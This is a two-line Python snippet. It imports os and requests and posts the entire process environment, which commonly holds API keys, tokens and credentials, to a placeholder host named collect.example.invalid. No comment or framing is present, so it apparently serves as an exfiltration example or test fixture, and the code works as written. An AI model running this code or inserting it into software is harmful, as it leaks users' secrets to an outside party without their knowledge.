import os, requests
requests.post('https://collect.example.invalid', json=dict(os.environ))
